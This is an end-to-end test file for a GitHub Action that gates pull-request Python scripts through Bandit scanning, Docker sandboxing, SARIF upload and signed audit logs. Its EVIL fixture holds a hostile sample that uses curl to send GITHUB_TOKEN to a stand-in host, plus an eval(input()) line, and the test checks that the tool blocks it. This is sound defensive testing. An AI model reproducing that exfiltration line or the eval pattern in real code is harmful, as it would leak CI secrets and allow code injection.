import { spawn } from 'node:child_process';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { minimalEnv, tryRunCommand } from '../../../src/exec/run-command.js';
import type { GateReport } from '../../../src/report/types.js';
import { type FakeGitHub, startFakeGitHub } from '../../helpers/fake-github.js';
import { commitOnBranch, git, initRepo } from '../../helpers/git-fixture.js';
import { orphanContainers } from '../../helpers/orphans.js';
import { ensureTestImage } from '../../helpers/test-image.js';
import { parseOutputs } from '../../helpers/action-runner.js';

/**
 * The Action as it ships: the committed bundle `dist/index.js` runs as the runner
 * would run it (INPUT_* and GITHUB_* environment, a real event payload, the
 * GITHUB_OUTPUT and GITHUB_STEP_SUMMARY files), against the real Docker engine and
 * Bandit, a real git workspace, a real bare repository for the audit branch, and a
 * local stand-in for GitHub's API that checks each request against the OpenAPI
 * description.
 */
const DIST = resolve('dist/index.js');
const CLI = resolve('dist/cli.js');
const REPO = 'octo-org/octo-repo';

const BENIGN = `import json, os, statistics\nvalues = [3, 1, 4, 1, 5, 9, 2, 6]\nout = os.path.join(os.environ["AIRLOCK_OUTPUT_DIR"], "stats.json")\nwith open(out, "w") as f:\n    json.dump({"mean": statistics.mean(values)}, f)\nprint("mean", statistics.mean(values))\n`;
const RISKY = `import urllib.request\ntry:\n    urllib.request.urlopen("https://example.com/x.csv", timeout=2)\nexcept OSError as e:\n    print("offline:", type(e).__name__)\n`;
/**
 * The small test image has Bandit only. This test is about the Action's flow (PR diff,
 * SARIF upload, outputs, audit branch), so its policy says what a custom image without
 * Semgrep must say: `semgrep: optional`, which the summary then flags as a warning.
 * Both scanners for real: test/integration/scan/scanner-versions.test.ts.
 */
const TEST_IMAGE_POLICY = 'version: 1\nextends: default\nscanners:\n  semgrep:\n    mode: optional\n';
const EVIL = `import os, subprocess\nsubprocess.call("curl -d " + os.environ.get("GITHUB_TOKEN", "") + " http://x", shell=True)\neval(input())\n`;

let root: string;
let ws: string;
let remote: string;
let baseSha: string;
let headSha: string;
let keyPem: string;
let publicKey: string;
let fake: FakeGitHub;
let image: string;

interface ActionOptions {
  event?: string;
  inputs?: Record<string, string>;
  payload?: unknown;
  /** Another checkout than the shared fixture's. */
  workspace?: string;
  extraEnv?: Record<string, string>;
}

/** The runner's environment for one step: INPUT_*, GITHUB_*, and the files it reads back. */
async function actionEnv(opts: ActionOptions) {
  const run = await mkdtemp(join(root, 'run-'));
  const eventPath = join(run, 'event.json');
  const outputFile = join(run, 'output');
  const summaryFile = join(run, 'summary');
  await writeFile(eventPath, JSON.stringify(opts.payload ?? prPayload()));
  await writeFile(outputFile, '');
  await writeFile(summaryFile, '');
  const inputs: Record<string, string> = {
    paths: 'analysis',
    mode: 'gate',
    image,
    'signing-key': keyPem,
    'audit-branch': 'airlock-audit',
    token: fake.token,
    'upload-sarif': 'true',
    policy: 'airlock-test-image.yml',
    ...opts.inputs,
  };
  const env = minimalEnv({
    GITHUB_ACTIONS: 'true',
    GITHUB_EVENT_NAME: opts.event ?? 'pull_request',
    GITHUB_EVENT_PATH: eventPath,
    GITHUB_REPOSITORY: REPO,
    GITHUB_SHA: headSha,
    GITHUB_REF: 'refs/pull/7/merge',
    GITHUB_WORKSPACE: opts.workspace ?? ws,
    GITHUB_API_URL: fake.url,
    GITHUB_SERVER_URL: 'https://github.com',
    GITHUB_RUN_ID: '4242',
    GITHUB_RUN_ATTEMPT: '1',
    GITHUB_ACTOR: 'octocat',
    GITHUB_OUTPUT: outputFile,
    GITHUB_STEP_SUMMARY: summaryFile,
    RUNNER_TEMP: run,
    AIRLOCK_AUDIT_REMOTE: remote,
    // A secret of the runner's that must never reach a container.
    AIRLOCK_TEST_RUNNER_SECRET: 'runner-secret-value-9f2c',
    ...Object.fromEntries(Object.entries(inputs).map(([k, v]) => [`INPUT_${k.toUpperCase()}`, v])),
    ...opts.extraEnv,
  });
  return { env, outputFile, summaryFile };
}

async function runAction(opts: ActionOptions): Promise<{
  exitCode: number | null;
  stdout: string;
  outputs: Record<string, string>;
  summary: string;
  report: any;
}> {
  const { env, outputFile, summaryFile } = await actionEnv(opts);
  const r = await tryRunCommand(process.execPath, [DIST], { cwd: ws, env, timeoutMs: 600_000 });
  const reportText = await readFile(join(ws, '.airlock/out/report.json'), 'utf8').catch(() => 'null');
  return {
    exitCode: r.exitCode,
    stdout: r.stdout + r.stderr,
    outputs: parseOutputs(await readFile(outputFile, 'utf8')),
    summary: await readFile(summaryFile, 'utf8'),
    report: JSON.parse(reportText),
  };
}

function prPayload() {
  return {
    action: 'synchronize',
    number: 7,
    pull_request: {
      number: 7,
      head: { sha: headSha, ref: 'feature', repo: { full_name: REPO, fork: false } },
      base: { sha: baseSha, ref: 'main', repo: { full_name: REPO, fork: false } },
    },
    repository: { full_name: REPO, name: 'octo-repo', owner: { login: 'octo-org' } },
  };
}

beforeAll(async () => {
  image = await ensureTestImage();
  root = await mkdtemp(join(tmpdir(), 'airlock-e2e-'));
  ws = join(root, 'ws');
  remote = join(root, 'remote.git');
  await tryRunCommand('git', ['init', '-q', '--bare', remote]);
  baseSha = await initRepo(ws, {
    'analysis/old_plot.py': BENIGN,
    'analysis/data.csv': 'a,b\n1,2\n',
    'README.md': '# fixture\n',
    'airlock-test-image.yml': TEST_IMAGE_POLICY,
  });
  headSha = await commitOnBranch(ws, 'feature', {
    'analysis/new_stats.py': BENIGN,
    'analysis/risky_fetch.py': RISKY,
    'analysis/evil.py': EVIL,
    'analysis/notes.txt': 'not python\n',
  });
  const keys = join(root, 'keys');
  const kg = await tryRunCommand(process.execPath, [CLI, 'audit', 'keygen', '--out', keys]);
  expect(kg.exitCode).toBe(0);
  keyPem = await readFile(join(keys, 'private.pem'), 'utf8');
  publicKey = join(keys, 'public.pem');
  fake = await startFakeGitHub({ repository: REPO });
});

afterEach(() => {
  fake.assertNoViolations();
  fake.reset();
});

afterAll(async () => {
  await fake?.close();
  await rm(root, { recursive: true, force: true });
});

describe('the Action on a pull request', () => {
  it('gates only the changed scripts, uploads SARIF, writes the summary and outputs, commits the audit log, and fails on the blocked script', async () => {
    const r = await runAction({});
    expect(r.exitCode, r.stdout).toBe(1);

    // Only what the PR brings: not old_plot.py (unchanged), not notes.txt (not Python).
    const byPath = Object.fromEntries(r.report.scripts.map((s: any) => [s.path, s]));
    expect(Object.keys(byPath).sort()).toEqual([
      'analysis/evil.py',
      'analysis/new_stats.py',
      'analysis/risky_fetch.py',
    ]);
    expect(byPath['analysis/evil.py'].level).toBe('blocked');
    expect(byPath['analysis/evil.py'].decision).toBe('blocked');
    expect(byPath['analysis/risky_fetch.py'].level).toBe('high');
    expect(byPath['analysis/new_stats.py'].level).toBe('low');
    expect(byPath['analysis/new_stats.py'].execution.status).toBe('success');
    expect(byPath['analysis/new_stats.py'].execution.artifacts.map((a: any) => a.path)).toEqual([
      'stats.json',
    ]);

    // SARIF uploaded once, for the PR's ref, in a request the OpenAPI description accepts.
    expect(fake.uploads).toHaveLength(1);
    const up = fake.uploads[0]!;
    expect(up.commitSha).toBe(headSha);
    expect(up.ref).toMatch(/^refs\/pull\/7\/(merge|head)$/);
    const uris = (up.sarif.runs ?? []).flatMap((run: any) =>
      (run.results ?? []).map((res: any) => res.locations[0].physicalLocation.artifactLocation.uri),
    );
    expect(uris).toContain('analysis/evil.py');

    // Outputs and the job summary.
    expect(r.outputs.verdict).toBe('fail');
    expect(r.outputs['blocked-count']).toBe('1');
    expect(r.outputs['high-count']).toBe('1');
    expect(r.outputs['low-count']).toBe('1');
    expect(r.outputs['image-id']).toMatch(/^sha256:/);
    expect(r.outputs['audit-checkpoint']).toContain(`github.com/${REPO}/airlock-audit`);
    expect(r.summary).toContain('| `analysis/evil.py` |');
    expect(r.summary).toContain('#### 🔴 blocked: [`analysis/evil.py`]');
    expect(r.summary).toMatch(
      /\*\*B602\*\* \(\w+\/\w+\) → \*\*blocked\*\* by `levels\.rules\[\d+\]`: _a shell command line/,
    );
    // Annotations: each finding at its own level on its line, the blocked ones first.
    const annotations = r.stdout.split('\n').filter((l) => /^::(error|warning|notice) /.test(l));
    expect(annotations[0]).toMatch(
      /^::error title=Bandit B\d+%3A blocked,file=analysis\/evil\.py,line=[23]::/,
    );
    expect(r.stdout).toMatch(/::notice title=Bandit B404%3A low,file=analysis\/evil\.py,line=1::/);
    expect(r.stdout).toMatch(/::warning title=Bandit B310%3A high,file=analysis\/risky_fetch\.py,line=\d+::/);
    // Semgrep optional and absent from the image: a warning box, not a line among the notices.
    expect(r.summary).toMatch(/> \[!WARNING\]\n> \*\*Semgrep did not scan/);
    expect(r.report.scanners.map((x: any) => [x.tool, x.status])).toEqual([
      ['bandit', 'ran'],
      ['semgrep', 'unavailable'],
    ]);

    // The audit branch of the "remote" holds a log that verifies with the public key.
    const clone = join(root, 'audit-clone');
    await git(root, ['clone', '-q', '--branch', 'airlock-audit', remote, clone]);
    const verify = await tryRunCommand(process.execPath, [
      CLI,
      'audit',
      'verify',
      join(clone, 'audit/log.jsonl'),
      '--public-key',
      publicKey,
    ]);
    expect(verify.exitCode, verify.stdout + verify.stderr).toBe(0);
    const log = await readFile(join(clone, 'audit/log.jsonl'), 'utf8');
    expect(log).toContain('"kind":"execution"');
    expect(log).toContain('analysis/evil.py');

    // The runner's secrets never reached a container, and no container is left.
    expect(JSON.stringify(r.report)).not.toContain('runner-secret-value-9f2c');
    expect(await orphanContainers()).toEqual([]);
  });

  it('passes when fail-on leaves out blocked, and still reports the block', async () => {
    const r = await runAction({ inputs: { 'fail-on': 'failure,timeout,oom,error', 'audit-branch': '' } });
    expect(r.exitCode, r.stdout).toBe(0);
    expect(r.outputs.verdict).toBe('pass');
    expect(r.outputs['blocked-count']).toBe('1');
  });

  it('carries on when the token may not upload SARIF (fork pull request)', async () => {
    fake.failNext('code-scanning/upload-sarif', {
      status: 403,
      message: 'Resource not accessible by integration',
    });
    const r = await runAction({ inputs: { 'fail-on': 'failure', 'audit-branch': '' } });
    expect(r.exitCode, r.stdout).toBe(0);
    expect(r.stdout).toMatch(/SARIF not uploaded/);
    expect(fake.uploads).toHaveLength(0);
  });

  it('without signing-key: writes an unsigned log that verifies as unsigned, and publishes it marked so', async () => {
    const r = await runAction({
      inputs: {
        'signing-key': '',
        'audit-log': '.airlock/audit-nokey/audit.log',
        'audit-branch': 'airlock-audit-unsigned',
        'upload-sarif': 'false',
      },
    });
    expect(r.exitCode, r.stdout).toBe(1); // evil.py is blocked, as in the first test
    expect(r.stdout).toContain('the audit log is written and hash-chained, its checkpoint unsigned');
    expect(r.report.audit).toMatchObject({ log: '.airlock/audit-nokey/audit.log', signed: false });
    expect(r.summary).toContain('Checkpoint (**unsigned**: no signing key)');
    // The output is the bare C2SP body: origin, size, root; no signature line.
    const checkpoint = r.outputs['audit-checkpoint']!;
    expect(checkpoint.trimEnd().split('\n')).toHaveLength(3);
    expect(checkpoint.startsWith(`github.com/${REPO}/airlock-audit\n`)).toBe(true);
    expect(checkpoint).not.toContain('\u2014');

    const local = join(ws, '.airlock/audit-nokey/audit.log');
    const plain = await tryRunCommand(process.execPath, [CLI, 'audit', 'verify', local]);
    expect(plain.exitCode, plain.stderr).toBe(0);
    expect(plain.stdout).toContain('status: unsigned (the checkpoint carries no signature)');
    expect(plain.stdout).toContain('signature: none: the log was written without a signing key');
    const expectingKey = await tryRunCommand(process.execPath, [
      CLI,
      'audit',
      'verify',
      local,
      '--public-key',
      publicKey,
    ]);
    expect(expectingKey.exitCode).toBe(1);
    expect(expectingKey.stderr).toContain('AUDIT_CHECKPOINT_UNSIGNED');
    const strict = await tryRunCommand(process.execPath, [CLI, 'audit', 'verify', local, '--strict']);
    expect(strict.exitCode).toBe(1);

    // Published without a key: the branch's log is unsigned too, and says so.
    const clone = join(root, 'audit-clone-unsigned');
    await git(root, ['clone', '-q', '--branch', 'airlock-audit-unsigned', remote, clone]);
    const branch = await tryRunCommand(process.execPath, [
      CLI,
      'audit',
      'verify',
      join(clone, 'audit/log.jsonl'),
    ]);
    expect(branch.exitCode, branch.stderr).toBe(0);
    expect(branch.stdout).toContain('status: unsigned');
    expect(await readFile(join(clone, 'audit/log.jsonl'), 'utf8')).toContain('"kind":"run.end"');
  });

  it('a cancelled job (SIGINT, then SIGTERM): no container, no staged copy, a partial report, no upload', async () => {
    const sleeper = 'import time\nprint("sleeping", flush=True)\ntime.sleep(60)\n';
    const cancelWs = join(root, 'cancel-ws');
    const sha = await initRepo(cancelWs, {
      'analysis/sleep_a.py': sleeper,
      'analysis/sleep_b.py': sleeper,
      'analysis/sleep_c.py': sleeper,
      // The test image has no Semgrep: the policy every run here uses (see TEST_IMAGE_POLICY).
      'airlock-test-image.yml': TEST_IMAGE_POLICY,
    });
    const tmp = await mkdtemp(join(root, 'cancel-tmp-'));
    const { env, summaryFile } = await actionEnv({
      event: 'workflow_dispatch',
      payload: { inputs: {}, ref: 'refs/heads/main', repository: { full_name: REPO } },
      workspace: cancelWs,
      inputs: { 'signing-key': '', 'audit-branch': '' },
      extraEnv: { TMPDIR: tmp, GITHUB_SHA: sha, GITHUB_REF: 'refs/heads/main' },
    });
    const child = spawn(process.execPath, [DIST], { cwd: cancelWs, env, stdio: ['ignore', 'pipe', 'pipe'] });
    let output = '';
    for (const s of [child.stdout, child.stderr]) s.on('data', (c: Buffer) => (output += c.toString()));
    const exited = new Promise<number | null>((r) => child.on('close', (code) => r(code)));
    const running = async () => {
      const r = await tryRunCommand('docker', [
        'ps',
        '--filter',
        `label=org.airlock.owner-pid=${child.pid}`,
        '--format',
        '{{.Names}}',
      ]);
      for (const name of r.stdout.split('\n').filter((n) => n.includes('sleep'))) {
        if ((await tryRunCommand('docker', ['top', name])).stdout.includes('sleep_')) return true;
      }
      return false;
    };
    const until = Date.now() + 120_000;
    while (!(await running())) {
      if (Date.now() > until) throw new Error(`no script started: ${output.slice(-2000)}`);
      await new Promise((r) => setTimeout(r, 200));
    }
    // GitHub's order on cancel: SIGINT, then SIGTERM (7.5 s later there; sooner here).
    const signalled = performance.now();
    child.kill('SIGINT');
    await new Promise((r) => setTimeout(r, 300));
    child.kill('SIGTERM');
    const code = await exited;
    expect(performance.now() - signalled, output).toBeLessThan(10_000);
    expect(code, output).not.toBe(0);
    expect(output).toContain('Airlock: cancelled by SIGINT');

    const all = await tryRunCommand('docker', [
      'ps',
      '-a',
      '--filter',
      `label=org.airlock.owner-pid=${child.pid}`,
      '-q',
    ]);
    expect(all.stdout.trim()).toBe('');
    expect((await readdir(tmp)).filter((n) => n.startsWith('airlock-stage-'))).toEqual([]);
    const report = JSON.parse(
      await readFile(join(cancelWs, '.airlock/out/report.json'), 'utf8'),
    ) as GateReport;
    expect(report.cancelled?.signal).toBe('SIGINT');
    const statuses = report.scripts.map((s) => s.execution?.status ?? s.decision);
    expect(statuses).toContain('cancelled');
    expect(statuses).not.toContain('failure');
    expect(await readFile(summaryFile, 'utf8')).toContain('**Cancelled** by SIGINT');
    expect(fake.uploads).toHaveLength(0);
    const verify = await tryRunCommand(process.execPath, [
      CLI,
      'audit',
      'verify',
      join(cancelWs, '.airlock/audit/audit.log'),
    ]);
    expect(verify.exitCode, verify.stderr).toBe(0);
  });

  it('refuses pull_request_target with the PR head checked out, before running anything', async () => {
    await rm(join(ws, '.airlock'), { recursive: true, force: true });
    const r = await runAction({ event: 'pull_request_target' });
    expect(r.exitCode).toBe(1);
    expect(r.stdout).toContain('UNSAFE_TRIGGER');
    expect(r.report).toBeNull();
    expect(fake.uploads).toHaveLength(0);
  });
});
